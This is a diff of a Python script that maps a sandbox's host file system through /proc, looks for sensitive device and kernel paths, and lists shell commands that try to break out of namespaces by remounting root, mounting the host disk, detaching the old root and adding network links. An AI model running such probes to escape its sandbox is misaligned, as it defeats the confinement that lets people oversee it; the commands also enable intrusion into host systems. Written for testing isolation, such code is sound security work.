@@ -26,7 +26,7 @@ def readable(path):
 
 def files_of_the_host():
     """Everything that can be seen of the file system, down to every process's view of it."""
-    roots = ["/"] + glob.glob("/proc/[0-9]*/root/") + glob.glob("/proc/[0-9]*/cwd/")
+    roots = ["/"] + [os.path.join(process, view) for process in glob.glob("/proc/[0-9]*") for view in ("root", "cwd")]
     found = []
     for root in roots:
         for folder, folders, files in os.walk(root):
@@ -36,7 +36,7 @@ def files_of_the_host():
 
 
 def host_paths():
-    paths = ["/work", "/root/.bashrc", "/sys/fs/cgroup/memory", "/sys/kernel", "/proc/sys/kernel/core_pattern.d", "/dev/sda", "/dev/vda", "/dev/kvm", "/dev/mem", "/run/host", "/run/mypc/../host"]
+    paths = ["/sys/fs/cgroup/memory", "/sys/kernel", "/proc/sys/kernel/core_pattern.d", "/dev/sda", "/dev/vda", "/dev/kvm", "/dev/mem", "/run/host", "/run/mypc/../host"]
     return [path for path in paths if os.path.exists(path)]
 
 
@@ -161,7 +161,7 @@ def ways_out_of_namespaces():
         "remount": "mount -o remount,rw / || mount -o remount,rw /run/mypc",
         "write through a namespace": "unshare -Urm sh -c 'mount -o remount,rw,bind /run/mypc && echo x > /run/mypc/attack'",
         "host disk": "unshare -Urm sh -c 'mount /dev/vda /mnt || mount /dev/sda1 /mnt'",
-        "old root": "unshare -Urm sh -c 'umount -l / && ls /work'",
+        "old root": "unshare -Urm sh -c 'umount -l / && ls /run/host'",
         "network": "unshare -Urn sh -c 'ip link add veth0 type veth peer name veth1 netns 1'",
     }
     run = lambda command: subprocess.run(["bash", "-c", command], capture_output=True, timeout=20).returncode == 0
